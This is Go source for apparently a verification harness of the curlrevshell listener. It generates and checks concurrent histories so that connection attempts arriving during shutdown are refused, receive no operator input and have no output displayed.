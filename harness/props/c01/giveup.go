package c01

import (
	"fmt"
	"math/rand/v2"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

// Engines "giveup" and "giveupq": UNIDIRECTIONAL attempts that the broker
// gets to decide only after the program has begun to shut down.
//
// In the program every request's context hangs off the program's context, and
// so does the context Broker.Do runs under.  When the program's context is
// cancelled, the cancellation reaches those descendants one after the other,
// in no particular order, and Do needs the broker's lock to react to it.  So
// there are attempts which the broker decides AFTER the program began to shut
// down and BEFORE Do has closed the door: their own context is already done
// when their turn comes.  Such an attempt was made while the program is
// shutting down: it must not be attached (no "New connection" record), must
// never be sent operator input (a line is pending all the time) and none of
// its output may be displayed - in whatever state the broker is.
//
// giveup (gate mode, one history per case): some history builds a broker
// state; then the program's cancellation reaches the context of one to three
// unidirectional attempts (parked at the admission point, or made with a
// context that is already done) and they are decided one at a time; then it
// reaches Do (the existing "shutdown" operation); then the history goes on.
//
// giveupq (real lock queue, one world per case): the broker is kept busy by an
// ID-less stranger stuck on its notice behind a stalled terminal (as in
// lockq); the attempt is queued for the broker's lock, or parked at the
// admission point, or not yet made, when the program's context is cancelled
// (attempt's and Do's context, in a case-chosen order, both while the broker is
// busy: Do's reaction is queued for the lock as well); then the terminal
// resumes.  Who gets the lock first is the runtime's business; no verdict
// depends on it.

// dyingSet remembers the attempts whose context was cancelled by the
// "program" before they were decided, until their history has been judged.
var dyingSet sync.Map // *bk.Attempt -> string (output token)

func dyingToken(a *bk.Attempt) string { return fmt.Sprintf("DYING-OUTPUT<%d>;", a.ID) }

// giveupStateSig names the broker state (as the executor's model has it) in
// which (a,dir) is about to be decided.
func giveupStateSig(x *bk.Exec, a *bk.Attempt, dir string) string {
	in, out := x.M.Slot["input"], x.M.Slot["output"]
	ended := func(s *bk.Stream) string {
		if s != nil && s.State == bk.StEnded {
			return "+ended-unreleased"
		}
		return ""
	}
	switch {
	case x.M.Tearing:
		return "tearing-down"
	case in == nil && out == nil:
		if x.M.Gen > 0 {
			return "idle-after-a-shell"
		}
		return "idle-fresh"
	case in != nil && out != nil:
		if in.A.Kind == "io" {
			return "full-io" + ended(in) + ended(out)
		}
		return "full-uni" + ended(in) + ended(out)
	}
	peer := in
	if peer == nil {
		peer = out
	}
	switch {
	case peer.A.Kind == "io":
		return "half-io" + ended(peer)
	case peer.Dir == dir:
		return "half-same-direction" + ended(peer)
	case peer.A.Key == a.Key:
		return "half-completing-same-id" + ended(peer)
	}
	return "half-other-id" + ended(peer)
}

// applyDying executes one "dying" symbol: Arg = in|out, Arg2 = parked|born.
// Counters go through the trace (prefix "dying ") and are collected by
// giveup's runner.
func applyDying(x *bk.Exec, s Sym, wk bk.WriterKind) {
	if x.M.Down != 0 {
		// the program is already known to be shutting down: an ordinary attempt
		x.Connect(s.Arg, s.Key, wk, false)
		return
	}
	dir := map[string]string{"in": "input", "out": "output"}[s.Arg]
	var a *bk.Attempt
	if s.Arg2 == "born" {
		// made when the program's context is already done
		a = x.W.NewAttempt(s.Arg, s.Key, wk)
		a.Gate("admit", dir)
		a.Gate("release", dir)
		x.StreamsOf(a)
		a.Cancel()
		from := x.W.Log.Len()
		a.Start()
		if _, ok := x.W.Log.Wait(from, bk.Bound, func(e bk.Event) bool {
			return e.Kind == "parked" && e.Att == a.ID && e.Dir == dir && e.S == "admit"
		}); !ok {
			x.Stalled = true
			x.Trace = append(x.Trace, fmt.Sprintf("STALL: dying attempt %d never reached the admission point", a.ID))
			return
		}
	} else {
		// on its way into the broker when the cancellation reaches its context
		a = x.Prepare(s.Arg, s.Key, wk)
		if x.Stalled {
			return
		}
		a.Cancel()
	}
	tok := dyingToken(a)
	dyingSet.Store(a, tok)
	if s.Arg == "out" {
		a.Rd.PushData(tok)
	}
	must, why := x.MustRefuse(a, dir)
	sig := giveupStateSig(x, a, dir)
	// an operator line is pending unless an attached input stream would take it
	in := x.M.Slot["input"]
	line := ""
	if in == nil || in.State != bk.StLive {
		line = fmt.Sprintf("DYING-OPERATOR-LINE-%d", a.ID)
		select {
		case x.W.Ich <- line:
		default:
			line = ""
		}
	}
	st := x.Admit(a, dir)
	if x.Stalled {
		return
	}
	x.AwaitReturnIfAllRefused(a)
	if ev, ok := x.W.Log.Find(0, func(e bk.Event) bool { return e.Kind == "slog" && e.Att == a.ID && e.S == bk.MsgNew }); ok {
		x.Viol("admitted-shutting-down", fmt.Sprintf("%s was attached (event #%d) although the program's context - and with it the attempt's own - had been cancelled before the broker decided it (%s, state %s): an attempt made while the program is shutting down must be refused", st, ev.Seq, s.Arg2, sig))
	}
	if line != "" {
		select {
		case <-x.W.Ich:
		default:
		}
	}
	if b := a.Wr.Bytes(); len(b) > 0 {
		x.Viol("shutdown-attempt-got-operator-input", fmt.Sprintf("%s, decided after the program's context had been cancelled (%s, state %s), was sent operator input %q", st, s.Arg2, sig, b))
	}
	x.Trace = append(x.Trace, fmt.Sprintf("dying %s/%s state=%s must-refuse-anyway=%v(%s) line-pending=%v -> %s", s.Arg, s.Arg2, sig, must, why, line != "", st.Reason))
}

// judgeDying is called once the history's world has been closed: nothing of a
// dying attempt may ever have been displayed, nothing may have been sent to it.
func judgeDying(x *bk.Exec, viol func(key, what string, x *bk.Exec)) {
	evs := x.W.Log.Snapshot()
	for _, a := range x.W.Attempts {
		v, ok := dyingSet.LoadAndDelete(a)
		if !ok {
			continue
		}
		tok := v.(string)
		for _, e := range evs {
			if e.Kind == "op" && e.Plain && strings.Contains(e.S, tok) {
				viol("shutdown-attempt-output-displayed", fmt.Sprintf("output %q of attempt %d (%s), which was decided after the program's context had been cancelled, was displayed", e.S, a.ID, a.Kind), x)
				break
			}
		}
		if b := a.Wr.Bytes(); len(b) > 0 {
			viol("shutdown-attempt-got-operator-input", fmt.Sprintf("attempt %d (%s), decided after the program's context had been cancelled, was sent operator input %q", a.ID, a.Kind, b), x)
		}
	}
}

// giveupHistories: directed (every prefix state x direction x ID relation x
// when) and PRNG-drawn ones (a random history with the dying group and the
// shutdown inserted at a random place).
func giveupHistories(r *mon.Run) (lists [][]Sym, ndirected int) {
	in := func(k string) Sym { return Sym{Op: "in", Key: k} }
	o := func(k string) Sym { return Sym{Op: "out", Key: k} }
	io := Sym{Op: "io", Arg: "infirst"}
	prefixes := [][]Sym{
		{},
		{in("k")},
		{o("k")},
		{in("k"), o("k")},
		{io},
		{in("k"), o("k"), {Op: "holdout"}, {Op: "endin", Arg: "cancel"}},
		{in("k"), o("k"), {Op: "holdin"}, {Op: "endout", Arg: "eof"}},
		{in("k"), o("k"), {Op: "endboth", Arg: "infirst"}},
		{io, {Op: "endboth", Arg: "outfirst"}},
		{in("k"), {Op: "holdin"}, {Op: "endin", Arg: "cancel"}},
		{o("k"), {Op: "holdout"}, {Op: "endout", Arg: "eof"}},
		{{Op: "ioprep"}},
		{{Op: "ioprep"}, {Op: "ioadmit", Arg: "input"}},
		{{Op: "ioprep"}, {Op: "ioadmit", Arg: "output"}},
		{in("k"), {Op: "endin", Arg: "werr"}, o("k1")},
	}
	suffix := []Sym{{Op: "probe"}, in("k"), o("k"), io, {Op: "ioadmit", Arg: "input"}, {Op: "ioadmit", Arg: "output"}, {Op: "endboth", Arg: "infirst"}, {Op: "unhold"}, in("n"), {Op: "probe"}}
	for _, p := range prefixes {
		for _, d := range []string{"in", "out"} {
			for _, k := range []string{"k", "K", "k1", ""} {
				for _, when := range []string{"parked", "born"} {
					h := append([]Sym{}, p...)
					h = append(h, Sym{Op: "dying", Key: k, Arg: d, Arg2: when}, Sym{Op: "shutdown"})
					h = append(h, suffix...)
					lists = append(lists, h)
				}
			}
		}
		// a whole new shell (or the second stream and a stranger) arriving as the program shuts down
		for _, first := range []string{"in", "out"} {
			second := map[string]string{"in": "out", "out": "in"}[first]
			h := append([]Sym{}, p...)
			h = append(h, Sym{Op: "dying", Key: "k", Arg: first, Arg2: "parked"}, Sym{Op: "dying", Key: "k", Arg: second, Arg2: "born"}, Sym{Op: "dying", Key: "z", Arg: first, Arg2: "parked"}, Sym{Op: "shutdown"})
			h = append(h, suffix...)
			lists = append(lists, h)
		}
	}
	ndirected = len(lists)
	nr := r.N(700, 7000)
	for i := 0; i < nr; i++ {
		rng := r.Rng("giveup", i)
		lists = append(lists, giveupRandom(rng))
	}
	return lists, ndirected
}

func giveupRandom(rng *rand.Rand) []Sym {
	base := genHistory(rng)
	// the keys the history uses, so that the dying attempts meet equal and related IDs
	var keys []string
	for _, s := range base {
		if s.Op == "in" || s.Op == "out" {
			keys = append(keys, s.Key)
		}
	}
	keys = append(keys, "k", IDs[rng.IntN(len(IDs))])
	at := rng.IntN(len(base) + 1)
	if rng.IntN(3) == 0 {
		at = rng.IntN(1 + len(base)/3)
	}
	var grp []Sym
	for n := 1 + rng.IntN(3); n > 0; n-- {
		grp = append(grp, Sym{Op: "dying", Key: keys[rng.IntN(len(keys))], Arg: []string{"in", "out"}[rng.IntN(2)], Arg2: []string{"parked", "born"}[rng.IntN(2)]})
	}
	grp = append(grp, Sym{Op: "shutdown"})
	var h []Sym
	for _, s := range base[:at] {
		if s.Op != "shutdown" {
			h = append(h, s)
		}
	}
	h = append(h, grp...)
	h = append(h, base[at:]...)
	return h
}

// giveup runs the gate-mode histories.
func giveup(r *mon.Run) {
	lists, nd := giveupHistories(r)
	var nAtt, nOnly atomic.Int64
	mon.Parallel(len(lists), runtime.NumCPU(), func(i int) {
		if !r.Want("giveup", i) {
			return
		}
		x := runOne(r, "giveup", i, lists[i])
		if x == nil {
			return
		}
		for _, t := range x.Trace {
			if !strings.HasPrefix(t, "dying ") {
				continue
			}
			// "dying in/parked state=… must-refuse-anyway=false() line-pending=true -> silent"
			f := strings.Fields(t)
			if len(f) < 7 {
				continue
			}
			nAtt.Add(1)
			r.Count("giveup_attempts", 1)
			dw := strings.SplitN(f[1], "/", 2)
			r.Count("giveup_direction_"+dw[0], 1)
			r.Count("giveup_when_"+dw[1], 1)
			r.Count("giveup_"+f[2], 1)
			r.Count("giveup_decision:"+strings.Join(f[6:], " "), 1)
			if strings.HasPrefix(f[3], "must-refuse-anyway=false") {
				nOnly.Add(1)
				r.Count("giveup_attempts_that_only_the_shutdown_forbids", 1)
				r.Count("giveup_only_shutdown_forbids_"+dw[0], 1)
			}
			if f[4] == "line-pending=true" {
				r.Count("giveup_attempts_with_operator_line_pending", 1)
			}
		}
	})
	r.Count("giveup_directed_histories", int64(nd))
	r.Logf("giveup done: %d histories (%d directed), %d attempts decided after the program's context was cancelled and before Do's, %d of them in a state where nothing but the shutdown forbids them", len(lists), nd, nAtt.Load(), nOnly.Load())
	if !r.Replaying() {
		n := int64(len(lists))
		r.Floor("giveup_attempts", n*9/10)
		r.Floor("giveup_direction_in", n/4)
		r.Floor("giveup_direction_out", n/4)
		r.Floor("giveup_when_parked", n/4)
		r.Floor("giveup_when_born", n/4)
		r.Floor("giveup_attempts_that_only_the_shutdown_forbids", n/8)
		r.Floor("giveup_only_shutdown_forbids_in", n/24)
		r.Floor("giveup_only_shutdown_forbids_out", n/24)
		r.Floor("giveup_attempts_with_operator_line_pending", n/4)
		for _, s := range []string{"state=idle-fresh", "state=idle-after-a-shell", "state=half-completing-same-id", "state=half-other-id", "state=half-same-direction", "state=half-io", "state=full-uni", "state=full-io", "state=tearing-down"} {
			r.Floor("giveup_"+s, 8)
		}
	}
}

// giveupq: the same class on a real lock queue.
func giveupq(r *mon.Run) {
	type qc struct {
		kind   string // in out: the attempt
		pre    string // idle, completing (other direction attached, same ID), other-id, same-dir, after (a shell has come and gone)
		when   string // queued: waiting for the broker's lock when the program's context is cancelled; parked: at the admission point; late: not yet made
		order  string // attempt-first: the cancellation reaches the attempt's context before Do's; do-first
		sdir   string // the stranger's direction
		och    int
		wk     bk.WriterKind
		settle [3]time.Duration
	}
	n := r.N(96, 960)
	var nProven, nBeforeDo atomic.Int64
	mon.Parallel(n, runtime.NumCPU(), func(i int) {
		if !r.Want("giveupq", i) {
			return
		}
		rng := r.Rng("giveupq", i)
		c := qc{
			kind:  []string{"in", "out"}[i%2],
			when:  []string{"queued", "parked", "queued", "late"}[(i/2)%4],
			pre:   []string{"idle", "completing", "after", "other-id", "idle", "completing", "same-dir", "after"}[(i/8)%8],
			order: []string{"attempt-first", "do-first"}[rng.IntN(2)],
			sdir:  []string{"in", "out"}[rng.IntN(2)],
			och:   []int{0, 1, 2, 5}[rng.IntN(4)],
			wk:    bk.WriterKind(rng.IntN(4)),
		}
		for k := range c.settle {
			c.settle[k] = time.Duration(3+rng.IntN(15)) * time.Millisecond
		}
		dir := map[string]string{"in": "input", "out": "output"}[c.kind]
		otherKind := map[string]string{"in": "out", "out": "in"}[c.kind]
		w, err := bk.NewWorld(c.och, 64)
		if err != nil {
			r.Inconclusive(err.Error())
			return
		}
		closed := false
		closeWorld := func() []*bk.Attempt {
			if closed {
				return nil
			}
			closed = true
			return w.Close()
		}
		defer closeWorld()
		viol := func(key, what string) {
			r.Violate("giveupq", i, key, what, map[string]any{"case": fmt.Sprintf("%+v", c), "log_tail": w.Log.Tail(60)})
		}
		inconc := func(what string) {
			r.Inconclusive(fmt.Sprintf("giveupq %d (%+v): %s; log tail: %v", i, c, what, w.Log.Tail(14)))
		}
		waitEv := func(from int, pred func(bk.Event) bool) (bk.Event, bool) { return w.Log.Wait(from, bk.Bound, pred) }
		isNew := func(a *bk.Attempt) func(bk.Event) bool {
			return func(e bk.Event) bool { return e.Kind == "slog" && e.Att == a.ID && e.S == bk.MsgNew }
		}
		hookEv := func(kind string, a *bk.Attempt, point string) func(bk.Event) bool {
			return func(e bk.Event) bool { return e.Kind == kind && e.Att == a.ID && e.S == point }
		}
		flushTerminal := func(tag string) bool {
			mark := fmt.Sprintf("GQ-%s-%d", tag, i)
			select {
			case w.Och <- opshell.CLine{Line: mark}:
			case <-time.After(bk.Bound):
				return false
			}
			_, ok := waitEv(0, func(e bk.Event) bool { return e.Kind == "op" && e.S == mark })
			return ok
		}

		// ---- the state the broker is in ----
		key := fmt.Sprintf("q%d", i%5)
		akey := key
		var peer *bk.Attempt
		attach := func(kind, k string) *bk.Attempt {
			p := w.NewAttempt(kind, k, c.wk)
			p.Start()
			if _, ok := waitEv(0, isNew(p)); !ok {
				inconc("a stream of the existing shell was not attached")
				return nil
			}
			// its announcement is made under the broker's lock: it must be on the terminal before the stall
			if _, ok := waitEv(0, func(e bk.Event) bool {
				return e.Kind == "op" && !e.Plain && strings.HasPrefix(e.S, "["+p.Addr+"] ") && strings.Contains(e.S, "connected: ID")
			}); !ok {
				inconc("a stream of the existing shell was not announced")
				return nil
			}
			return p
		}
		switch c.pre {
		case "completing":
			if peer = attach(otherKind, key); peer == nil {
				return
			}
		case "other-id":
			if peer = attach(otherKind, key); peer == nil {
				return
			}
			akey = key + "x"
		case "same-dir":
			if peer = attach(c.kind, key); peer == nil {
				return
			}
		case "after":
			p1 := attach("in", key)
			if p1 == nil {
				return
			}
			p2 := attach("out", key)
			if p2 == nil {
				return
			}
			p2.Rd.Push(bk.ReadItem{Err: fmt.Errorf("EOF-like: %w", bk.ErrInjected)})
			for _, p := range []*bk.Attempt{p1, p2} {
				select {
				case <-p.Ret:
				case <-time.After(bk.Bound):
					viol("stream-does-not-end", "a stream of the first shell did not end after its output failed")
					return
				}
			}
		}
		// a line is pending unless an attached input stream would take it
		line := ""
		if peer == nil || peer.Kind != "in" {
			line = fmt.Sprintf("GQ-OPERATOR-LINE-%d", i)
			select {
			case w.Ich <- line:
			default:
				inconc("operator input channel full")
				return
			}
		}
		if !flushTerminal("MARK") {
			inconc("marker line not seen on the operator channel")
			return
		}

		// ---- the terminal stalls behind a channel that is exactly full; the stranger gets stuck inside ----
		resume := w.StallOperator()
		defer resume()
		stallSeq := w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "stall"})
		for k := 0; k < c.och+1; k++ {
			select {
			case w.Och <- opshell.CLine{Line: fmt.Sprintf("GQ-FILL-%d-%d", i, k)}:
			case <-time.After(bk.Bound):
				inconc("filler line not accepted by the operator channel")
				return
			}
		}
		holder := w.NewAttempt(c.sdir, "", c.wk)
		holder.Start()
		insideEv, ok := waitEv(stallSeq, func(e bk.Event) bool {
			return e.Kind == "slog" && e.Att == holder.ID && (e.S == bk.MsgKeyMissing || e.S == bk.MsgNew)
		})
		if !ok {
			inconc("the ID-less attempt was not decided")
			return
		}
		if insideEv.S == bk.MsgNew {
			viol("admitted-missing-id", "an attempt without an ID was attached")
			return
		}
		time.Sleep(c.settle[0])

		// ---- the attempt, and the program's context being cancelled while the broker is busy ----
		var A *bk.Attempt
		tok := fmt.Sprintf("GQ-OUTPUT<%d>;", i)
		mk := func() {
			A = w.NewAttempt(c.kind, akey, c.wk)
			if c.kind == "out" {
				A.Rd.PushData(tok)
			}
		}
		var cancelSeq int
		programCancel := func() {
			cancelSeq = w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "program context cancelled (" + c.order + ")"})
			if c.order == "attempt-first" {
				A.Cancel()
				w.Shutdown()
			} else {
				w.Shutdown()
				A.Cancel()
			}
		}
		switch c.when {
		case "queued":
			mk()
			A.Start()
			if _, ok := waitEv(stallSeq, hookEv("hook", A, "admit")); !ok {
				inconc("the attempt did not reach the broker")
				return
			}
			time.Sleep(c.settle[1]) // it is waiting for the broker's lock now
			programCancel()
		case "parked":
			mk()
			A.Gate("admit", dir)
			A.Start()
			if _, ok := waitEv(stallSeq, hookEv("parked", A, "admit")); !ok {
				inconc("the attempt did not reach the admission point")
				return
			}
			programCancel()
			time.Sleep(c.settle[1])
			A.Open("admit", dir)
			if _, ok := waitEv(stallSeq, hookEv("passed", A, "admit")); !ok {
				inconc("the attempt did not leave the admission point")
				return
			}
		default: // late
			mk()
			programCancel()
			time.Sleep(c.settle[1])
			A.Start()
			if _, ok := waitEv(stallSeq, hookEv("hook", A, "admit")); !ok {
				inconc("the attempt did not reach the broker")
				return
			}
		}
		time.Sleep(c.settle[2])
		if _, dec := w.Log.Find(stallSeq, func(e bk.Event) bool { return e.Att == A.ID && (e.Kind == "slog" || e.Kind == "ret") }); dec {
			// decided although the stranger holds the broker: the schedule is not what the case wants
			r.Count("giveupq_cases_decided_before_resume", 1)
		}
		resumeSeq := w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "resume"})
		resume()

		// ---- the queue runs off ----
		for _, a := range []*bk.Attempt{A, holder} {
			select {
			case <-a.Ret:
			case <-time.After(bk.Bound):
				viol("refused-attempt-not-ended", fmt.Sprintf("attempt %d (%s), which must be refused, did not return after the terminal resumed", a.ID, a.Kind))
				return
			}
		}
		if peer != nil {
			peer.Cancel()
			select {
			case <-peer.Ret:
			case <-time.After(bk.Bound):
				viol("stream-does-not-end", "the attached stream did not end after its context was cancelled")
				return
			}
		}
		select {
		case <-w.DoDone:
		case <-time.After(bk.Bound):
			viol("shutdown-does-not-finish", "Do did not return although every stream has ended")
			return
		}
		if !flushTerminal("END") {
			inconc("closing marker line not seen on the operator channel")
			return
		}
		evs := w.Log.Snapshot()
		attached := false
		var decEv bk.Event // A's first record, or its return
		for _, e := range evs[stallSeq:] {
			if e.Att != A.ID {
				continue
			}
			if decEv.Kind == "" && (e.Kind == "slog" || e.Kind == "ret") {
				decEv = e
			}
			if isNew(A)(e) {
				attached = true
				viol("admitted-shutting-down", fmt.Sprintf("the %s attempt (ID %q, broker state %s) was attached (event #%d) although the program's context - and with it its own - had been cancelled (event #%d) before the broker decided it (%s when the cancellation came, %s): an attempt made while the program is shutting down must be refused", dir, akey, c.pre, e.Seq, cancelSeq, c.when, c.order))
				break
			}
		}
		if b := A.Wr.Bytes(); len(b) > 0 {
			viol("shutdown-attempt-got-operator-input", fmt.Sprintf("the %s attempt, decided after the program's context had been cancelled (broker state %s, %s), was sent operator input %q", dir, c.pre, c.when, b))
		}
		for _, e := range evs {
			if e.Kind == "op" && e.Plain && strings.Contains(e.S, tok) {
				viol("shutdown-attempt-output-displayed", fmt.Sprintf("output %q of the %s attempt, decided after the program's context had been cancelled (broker state %s, %s), was displayed", e.S, dir, c.pre, c.when))
				break
			}
		}
		if line != "" && !attached {
			select {
			case <-w.Ich:
			default:
				viol("input-consumed-without-live-input", "the pending operator line was taken although no input stream was attached")
			}
		}
		stuck := closeWorld()
		if w.DoStuck {
			viol("shutdown-does-not-finish", "at shutdown every Connect call had returned and every transport was closed, yet Do did not finish")
		}
		for _, a := range stuck {
			viol("connect-does-not-return", fmt.Sprintf("Connect of attempt %d (%s) did not return after its context was cancelled and its transport closed", a.ID, a.Kind))
		}

		// ---- the schedule, from the log ----
		held := false
		{
			k := 0
			for _, e := range evs[stallSeq:] {
				if e.Kind != "op" {
					continue
				}
				k++
				if !e.Plain && strings.HasPrefix(e.S, "["+holder.Addr+"] ") && strings.Contains(e.S, "Missing Key") {
					held = k >= c.och+2 && e.Seq > resumeSeq && insideEv.Seq < resumeSeq
					break
				}
			}
		}
		// the attempt passed its admission point (after which the next thing it does is ask for the lock) and
		// the program's context was cancelled while the stranger was inside; the decision came after the resume
		passed := false
		for _, e := range evs[stallSeq:resumeSeq] {
			if e.Att == A.ID && ((e.Kind == "hook" && e.S == "admit" && c.when != "parked") || (e.Kind == "passed" && e.S == "admit")) {
				passed = true
			}
		}
		proven := held && passed && cancelSeq > insideEv.Seq && cancelSeq < resumeSeq && decEv.Kind != "" && decEv.Seq > resumeSeq
		r.Eval(1)
		r.Count("giveupq_cases", 1)
		r.Count("giveupq_kind_"+c.kind, 1)
		r.Count("giveupq_when_"+c.when, 1)
		r.Count("giveupq_pre_"+c.pre, 1)
		r.Count("giveupq_order_"+c.order, 1)
		what := decEv.S
		if decEv.Kind == "ret" {
			what = "(returned without a record)"
		}
		r.Count("giveupq_decision:"+what, 1)
		if proven {
			nProven.Add(1)
			r.Count("giveupq_cases_cancelled_while_broker_busy_and_decided_after_proven", 1)
			r.Count("giveupq_proven_when_"+c.when, 1)
			if decEv.Kind == "slog" {
				// it left a record, so the broker took it up before Do had closed the door
				nBeforeDo.Add(1)
				r.Count("giveupq_proven_cases_decided_before_do_reacted", 1)
			}
		}
		r.Distinct(fmt.Sprintf("giveupq %s pre=%s when=%s order=%s stranger=%s och=%d -> %s", c.kind, c.pre, c.when, c.order, c.sdir, c.och, what))
		if i < 2 {
			r.Sample("giveupq", map[string]any{"case": fmt.Sprintf("%+v", c), "schedule_proven": proven, "decision": what, "log_tail": w.Log.Tail(24)})
		}
	})
	r.Logf("giveupq done: %d cases, schedule proven in %d, attempt decided before Do reacted in %d of those", n, nProven.Load(), nBeforeDo.Load())
	if !r.Replaying() {
		r.Floor("giveupq_cases", int64(n))
		r.Floor("giveupq_cases_cancelled_while_broker_busy_and_decided_after_proven", int64(n*9/10))
		r.Floor("giveupq_proven_cases_decided_before_do_reacted", int64(n/8))
		r.Floor("giveupq_kind_in", int64(n/3))
		r.Floor("giveupq_kind_out", int64(n/3))
		r.Floor("giveupq_proven_when_queued", int64(n/3))
		r.Floor("giveupq_proven_when_parked", int64(n/6))
		r.Floor("giveupq_proven_when_late", int64(n/6))
		for _, p := range []string{"idle", "completing", "after", "other-id", "same-dir"} {
			r.Floor("giveupq_pre_"+p, int64(n/16))
		}
	}
}

// Package c01: one shell at a time, same callback ID, everything else
// refused.  Gate-scheduled histories against a one-sided model, free-running
// stress checked with porcupine, and the HTTP mapping of IDs.
package c01

import (
	"fmt"
	"math/rand/v2"
	"runtime"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

const Level = "exploration"

// IDs are deliberately related: equal, case variants, prefixes, trailing
// space, empty, non-ASCII, embedded NUL, a format verb.
var IDs = []string{"k", "K", "k1", "kk", "k ", "", "é", "k\x00", "%s", "k", "1", "2", "0"}

// Sym is one symbol of the history alphabet.
type Sym struct {
	Op   string // in out io endin endout endboth holdin holdout unhold shutdown probe
	Key  string
	Arg  string // ending kind / order
	Arg2 string
}

func (s Sym) String() string {
	return strings.TrimSpace(fmt.Sprintf("%s %q %s %s", s.Op, s.Key, s.Arg, s.Arg2))
}

// Alphabet17 is the alphabet of the exhaustive short-history enumeration.
var Alphabet17 = []Sym{
	{Op: "in", Key: "k"}, {Op: "in", Key: "K"}, {Op: "in", Key: "k1"}, {Op: "in", Key: ""},
	{Op: "out", Key: "k"}, {Op: "out", Key: "K"}, {Op: "out", Key: "k1"}, {Op: "out", Key: ""},
	{Op: "io", Arg: "infirst"}, {Op: "io", Arg: "outfirst"},
	{Op: "endin", Arg: "cancel"}, {Op: "endout", Arg: "eof"},
	{Op: "holdin"}, {Op: "holdout"}, {Op: "unhold"},
	{Op: "endboth", Arg: "infirst"}, {Op: "shutdown"},
}

// Apply executes one symbol against the executor (no-op when not applicable).
func Apply(x *bk.Exec, s Sym, wk bk.WriterKind) {
	if x.Stalled {
		return
	}
	in, out := x.M.Slot["input"], x.M.Slot["output"]
	switch s.Op {
	case "in", "out":
		x.Connect(s.Op, s.Key, wk, false)
	case "io":
		x.Connect("io", "", wk, s.Arg == "outfirst")
	case "ioprep":
		x.Pending = append(x.Pending, x.Prepare("io", "", wk))
	case "ioadmit-parkdone":
		// like ioadmit, but the half is parked at the "done" point (after the broker's lock has been
		// released, before Connect returns), so that whatever the caller does after Connect returns
		// has not happened yet when the next operation runs
		for _, a := range x.Pending {
			if a.Gated("admit", s.Arg) {
				a.Gate("done", s.Arg)
				x.Admit(a, s.Arg)
				break
			}
		}
	case "iodone":
		for _, a := range x.Pending {
			for _, d := range a.Dirs() {
				a.Open("done", d)
			}
			x.AwaitReturnIfAllRefused(a)
		}
	case "ioadmit":
		// admit one parked half (Arg: input|output) of the oldest prepared /io attempt that still has it parked
		for _, a := range x.Pending {
			if a.Gated("admit", s.Arg) {
				x.Admit(a, s.Arg)
				if !a.Gated("done", "input") && !a.Gated("done", "output") {
					x.AwaitReturnIfAllRefused(a)
				}
				break
			}
		}
	case "endin":
		if in != nil && in.State == bk.StLive {
			how := s.Arg
			if how == "ferr" && !(in.A.Wr.Kind == bk.WFlushError || in.A.Wr.Kind == bk.WBoth) {
				how = "werr"
			}
			x.End(in, how, "", false)
		}
	case "endout":
		if out != nil && out.State == bk.StLive {
			x.End(out, s.Arg, "", false)
		}
	case "endboth":
		if in != nil && out != nil && in.State == bk.StLive && out.State == bk.StLive {
			hi, ho := "cancel", "eof"
			if s.Arg2 != "" {
				p := strings.SplitN(s.Arg2, "+", 2)
				hi, ho = p[0], p[1]
			}
			x.End(in, hi, ho, s.Arg == "outfirst")
		} else if in != nil && in.State == bk.StLive {
			x.End(in, "cancel", "", false)
		} else if out != nil && out.State == bk.StLive {
			x.End(out, "eof", "", false)
		}
	case "holdin":
		if in != nil {
			x.Hold(in)
		}
	case "holdout":
		if out != nil {
			x.Hold(out)
		}
	case "unhold":
		for _, st := range x.Streams {
			if st.Held && st.State == bk.StEnded {
				x.Unhold(st)
				break
			}
		}
	case "wait":
		// real time passes (Arg: Go duration) — for guards that might lapse with age
		if d, err := time.ParseDuration(s.Arg); err == nil {
			time.Sleep(d)
		}
	case "shutdown":
		x.Shutdown()
	case "dying":
		// the program's context has been cancelled and the cancellation has reached this attempt's
		// context, but not yet Do's (a "shutdown" follows): see giveup.go
		applyDying(x, s, wk)
	case "probe":
		x.Probe()
	}
	x.CheckDoAlive()
}

// RunHistory runs one history in a fresh world and returns the executor.
func RunHistory(hist []Sym, ochCap int, wk bk.WriterKind, viol func(key, what string, x *bk.Exec)) *bk.Exec {
	w, err := bk.NewWorld(ochCap, 64)
	if err != nil {
		viol("world", err.Error(), nil)
		return nil
	}
	var x *bk.Exec
	x = bk.NewExec(w, func(key, what string) { viol(key, what, x) })
	for _, s := range hist {
		Apply(x, s, wk)
	}
	for _, a := range x.Pending {
		for _, d := range a.Dirs() {
			a.Open("done", d)
		}
	}
	for _, a := range x.Pending {
		for _, d := range a.Dirs() {
			if a.Gated("admit", d) && !x.Stalled {
				x.Admit(a, d)
			}
		}
		x.AwaitReturnIfAllRefused(a)
	}
	x.Probe()
	// release whatever is still held so that the world can be closed, then final checks
	for _, st := range x.Streams {
		if st.Held && st.State == bk.StEnded && !x.Stalled {
			x.Unhold(st)
		}
	}
	x.Finish()
	judgeDying(x, viol)
	return x
}

func genHistory(rng *rand.Rand) []Sym {
	n := 6 + rng.IntN(11)
	var h []Sym
	// a small key pool per history so that equal/related IDs meet often
	pool := []string{IDs[rng.IntN(len(IDs))], IDs[rng.IntN(len(IDs))], "k"}
	key := func() string { return pool[rng.IntN(len(pool))] }
	endIn := []string{"cancel", "werr", "ferr"}
	endOut := []string{"cancel", "eof", "err", "dataerr"}
	for i := 0; i < n; i++ {
		switch v := rng.IntN(20); {
		case v < 4:
			h = append(h, Sym{Op: "in", Key: key()})
		case v < 8:
			h = append(h, Sym{Op: "out", Key: key()})
		case v < 10:
			h = append(h, Sym{Op: "io", Arg: []string{"infirst", "outfirst"}[rng.IntN(2)]})
		case v < 12:
			h = append(h, Sym{Op: "endin", Arg: endIn[rng.IntN(len(endIn))]})
		case v < 14:
			h = append(h, Sym{Op: "endout", Arg: endOut[rng.IntN(len(endOut))]})
		case v < 15:
			h = append(h, Sym{Op: "endboth", Arg: []string{"infirst", "outfirst"}[rng.IntN(2)], Arg2: endIn[rng.IntN(len(endIn))] + "+" + endOut[rng.IntN(len(endOut))]})
		case v < 16:
			h = append(h, Sym{Op: "holdin"})
		case v < 17:
			h = append(h, Sym{Op: "holdout"})
		case v < 18:
			h = append(h, Sym{Op: "unhold"})
		case v < 19:
			switch rng.IntN(4) {
			case 0:
